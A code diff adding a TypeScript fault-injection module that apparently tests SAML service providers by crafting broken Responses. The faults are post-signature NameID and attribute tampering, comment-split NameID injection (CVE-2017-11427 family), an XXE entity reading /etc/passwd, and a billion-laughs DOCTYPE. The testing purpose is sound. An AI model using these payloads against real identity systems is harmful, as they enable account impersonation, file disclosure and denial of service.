@@ -1,0 +1,66 @@
+import { attr, childElements, firstChildElement, ns } from '../../../core/xml/index.ts'
+import type { FaultOf } from '../schema.ts'
+import { setNameId, setText } from './wrapping.ts'
+
+/** The Assertion a naive SP would read: the first one that is a child of the Response. */
+function assertionOf(doc: Document): Element | undefined {
+  return firstChildElement(doc.documentElement as Element, ns.saml, 'Assertion')
+}
+
+/** Changes the NameID or an attribute's first value after signing (catalogue item 2's cousin). */
+export function tamper(doc: Document, fault: FaultOf<'saml-tamper'>): void {
+  const assertion = assertionOf(doc)
+  if (!assertion) return
+  if (fault.target === 'NameID') {
+    setNameId(doc, assertion, fault.value)
+    return
+  }
+  const statement = firstChildElement(assertion, ns.saml, 'AttributeStatement')
+  const attribute = statement
+    ? childElements(statement, ns.saml, 'Attribute').find((a) => attr(a, 'Name') === fault.name)
+    : undefined
+  const value = attribute && firstChildElement(attribute, ns.saml, 'AttributeValue')
+  if (value) setText(doc, value, fault.value)
+  else setNameId(doc, assertion, fault.value)
+}
+
+/**
+ * Splits the signed NameID `<nameId><suffix>` with a comment or a processing instruction
+ * (CVE-2017-11427..11430): exclusive c14n drops comments, so the signature still holds, and an
+ * SP that reads only the first text node signs in `<nameId>`.
+ */
+export function injectIntoNameId(
+  doc: Document,
+  fault: FaultOf<'saml-nameid-injection'>,
+  nameIdLength: number,
+): void {
+  const assertion = assertionOf(doc)
+  const subject = assertion && firstChildElement(assertion, ns.saml, 'Subject')
+  const nameId = subject && firstChildElement(subject, ns.saml, 'NameID')
+  const text = nameId?.firstChild
+  if (!nameId || !text || text.nodeType !== text.TEXT_NODE) return
+  const tail = (text as Text).splitText(nameIdLength)
+  const injected =
+    fault.node === 'comment'
+      ? doc.createComment('')
+      : doc.createProcessingInstruction('ssoproof', 'injected')
+  nameId.insertBefore(injected, tail)
+}
+
+const doctypes = {
+  entity: '<!DOCTYPE samlp:Response [<!ENTITY ssoproof "alice">]>',
+  'external-entity': '<!DOCTYPE samlp:Response [<!ENTITY ssoproof SYSTEM "file:///etc/passwd">]>',
+  'billion-laughs': `<!DOCTYPE samlp:Response [<!ENTITY lol0 "lol">${Array.from(
+    { length: 9 },
+    (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`,
+  ).join('')}<!ENTITY ssoproof "&lol9;">]>`,
+} as const
+
+/**
+ * A DOCTYPE with entity declarations before the signed Response, and the entity referenced in
+ * the NameID (catalogue item 5). An SP must refuse it before parsing.
+ */
+export function withDoctype(xml: string, fault: FaultOf<'saml-doctype'>): string {
+  const referenced = xml.replace(/(<saml:NameID\b[^>]*>)[^<]*(<\/saml:NameID>)/, '$1&ssoproof;$2')
+  return `<?xml version="1.0" encoding="UTF-8"?>${doctypes[fault.payload]}${referenced}`
+}
